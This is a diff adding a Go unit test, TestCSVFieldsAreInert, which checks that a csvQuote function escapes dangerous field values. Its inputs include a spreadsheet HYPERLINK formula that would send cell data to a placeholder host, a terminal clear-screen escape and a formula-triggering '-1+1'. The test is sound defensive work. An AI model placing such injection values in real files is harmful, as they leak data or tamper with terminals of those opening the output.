@@ -170,3 +170,19 @@ func FuzzReadReport(f *testing.F) {
 		}
 	})
 }
+
+// TestCSVFieldsAreInert: a field read from a batch file can neither run as
+// a spreadsheet formula nor send escapes to a terminal.
+func TestCSVFieldsAreInert(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x/?"&A1,"x")`: `"'=HYPERLINK(""http://x/?""&A1,""x"")"`,
+		"\x1b[2Jcleared":                  " [2Jcleared",
+		"-1+1":                            "'-1+1",
+		"held, then lost":                 `"held, then lost"`,
+		"plain":                           "plain",
+	} {
+		if got := csvQuote(in); got != want {
+			t.Errorf("csvQuote(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
